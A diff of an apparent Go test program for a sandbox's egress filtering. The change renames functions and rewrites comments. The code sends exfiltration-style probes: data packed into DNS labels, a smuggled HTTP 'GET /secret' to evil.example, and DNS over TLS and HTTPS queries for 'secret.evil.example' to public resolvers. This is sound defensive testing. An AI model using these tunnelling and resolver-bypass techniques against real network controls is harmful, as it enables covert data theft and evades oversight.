@@ -14,12 +14,11 @@ import (
 // resolver is the address of every box's resolver.
 const resolver = "198.18.0.1:53"
 
-// patience is for immediate answers, on an emulated and busy machine.
-const patience = time.Minute
+// timeLimit is for answers that come at once, on an emulated and busy machine.
+const timeLimit = time.Minute
 
 // names queries names that are not allowed, and record types by which an allowed name could carry
-// more than an address. "secret" in a name or a path marks it throughout this command: the script
-// searches for the word in what has reached the outside.
+// more than an address.
 func names() {
 	types := map[string]uint16{"A": 1, "AAAA": 28, "TXT": 16, "NULL": 10, "ANY": 255, "AXFR": 252}
 	for _, name := range []string{
@@ -29,28 +28,28 @@ func names() {
 	} {
 		for t, n := range types {
 			for _, network := range []string{"udp", "tcp"} {
-				tell("dns", fmt.Sprint(network, " ", t, " ", name), answered(resolve(network, question(name, n))))
+				report("dns", fmt.Sprint(network, " ", t, " ", name), records(resolve(network, question(name, n))))
 			}
 		}
 	}
 	for t, n := range types {
 		if t != "A" && t != "AAAA" {
-			tell("dns", t+" a.example", answered(resolve("udp", question("a.example", n))))
+			report("dns", t+" a.example", records(resolve("udp", question("a.example", n))))
 		}
 	}
 	for _, network := range []string{"udp", "tcp"} {
 		got := resolve(network, []byte("GET /secret HTTP/1.1\r\nHost: evil.example\r\n\r\n"))
-		left := ""
+		effect := ""
 		if strings.Contains(string(got), "HTTP") {
-			left = string(got)
+			effect = string(got)
 		}
-		tell("dns", network+" what is no question", left)
+		report("dns", network+" what is no question", effect)
 	}
 }
 
-// labels carries data in labels below an allowed wildcard. The box permits a burst of bytes and
-// then a rate per second, and refuses each name beyond that. The outside answers every name below
-// names.example, so only the box's own limit can refuse one.
+// labels sends data in the labels of names below an allowed wildcard. The box permits a burst of
+// bytes and then a rate in bytes per second, and refuses each name beyond that. The outside answers
+// every name below names.example, so only the box's own limit can refuse one.
 func labels() {
 	const all, burst, rate = 400, 16 << 10, 64
 	begun, sent := time.Now(), 0
@@ -60,10 +59,10 @@ func labels() {
 		if len(answer) == 0 {
 			continue // it came too late
 		}
-		if answered(answer) == "" {
-			tell("dns-rate", name, "")
+		if records(answer) == "" {
+			report("dns-rate", name, "")
 		} else if sent += len(name); sent > burst+rate*int(time.Since(begun).Seconds()+1) {
-			tell("dns-rate", name, fmt.Sprint(sent, " bytes in names after ", time.Since(begun)))
+			report("dns-rate", name, fmt.Sprint(sent, " bytes in names after ", time.Since(begun)))
 		}
 	}
 }
@@ -78,7 +77,8 @@ func question(name string, kind uint16) []byte {
 	return append(binary.BigEndian.AppendUint16(append(b, 0), kind), 0, 1)
 }
 
-// resolve returns the resolver's answer as in a datagram, or nil if none comes within a second.
+// resolve sends a query and returns the answer as in a datagram, without the length that precedes it
+// over TCP. It returns nil if there is none within a second.
 func resolve(network string, q []byte) []byte {
 	c, err := net.Dial(network, resolver)
 	if err != nil {
@@ -98,41 +98,41 @@ func resolve(network string, q []byte) []byte {
 	return b[:n]
 }
 
-// answered returns the answer if it has a record, and "" otherwise.
-func answered(b []byte) string {
+// records returns the answer if it has a record, and "" otherwise.
+func records(b []byte) string {
 	if len(b) < 12 || binary.BigEndian.Uint16(b[6:]) == 0 {
 		return ""
 	}
 	return string(b)
 }
 
-// resolvers asks other resolvers, by TLS and by HTTPS: public ones, one with a name, and allowed
-// sites that are not resolvers. The kind "none" is for attempts that need not be in the log: the
-// connection is allowed, but the site does not understand the question.
+// resolvers queries other resolvers by TLS and by HTTPS: public ones, one with a name, and allowed
+// sites that are not resolvers. For the latter, the connection is allowed, but the site must answer
+// that it has no such page.
 func resolvers() {
 	for _, to := range []string{"1.1.1.1", "8.8.8.8", "198.18.0.1", "a.example", "b.example", "dns.example"} {
 		kind := "flow"
 		if to == "dns.example" {
 			kind = "dns"
 		}
-		left := ""
+		effect := ""
 		if c, err := dial(to + ":853"); err == nil {
-			left = "a connection"
+			effect = "a connection"
 			c.Close()
 		}
-		tell(kind, "DNS over TLS of "+to, left)
+		report(kind, "DNS over TLS of "+to, effect)
 	}
 	q := question("secret.evil.example", 16)
 	for url, kind := range map[string]string{"https://1.1.1.1": "flow", "https://8.8.8.8": "flow", "https://dns.example": "dns", "http://b.example": "none", "https://a.example": "none"} {
 		for _, method := range []string{http.MethodGet, http.MethodPost} {
-			tell(kind, "DNS over HTTPS of "+url+", "+method, overHTTPS(method, url+"/dns-query", q, kind == "none"))
+			report(kind, "DNS over HTTPS of "+url+", "+method, queryHTTPS(method, url+"/dns-query", q, kind == "none"))
 		}
 	}
 }
 
-// overHTTPS returns the result of a question in a request, "" if it was refused. With site, url is on
-// an allowed site that is not a resolver, which must answer 404.
-func overHTTPS(method, url string, q []byte, site bool) string {
+// queryHTTPS sends a query in an HTTP request and returns the status, or "" if it was refused. With
+// site, url is on an allowed site that is not a resolver, which must answer 404.
+func queryHTTPS(method, url string, q []byte, site bool) string {
 	body := bytes.NewReader(q)
 	if method == http.MethodGet {
 		url, body = url+"?dns="+base64.RawURLEncoding.EncodeToString(q), bytes.NewReader(nil)
@@ -142,7 +142,7 @@ func overHTTPS(method, url string, q []byte, site bool) string {
 		panic(err)
 	}
 	req.Header.Set("Content-Type", "application/dns-message")
-	client := &http.Client{Timeout: patience}
+	client := &http.Client{Timeout: timeLimit}
 	res, err := client.Do(req)
 	switch {
 	case err != nil && site:
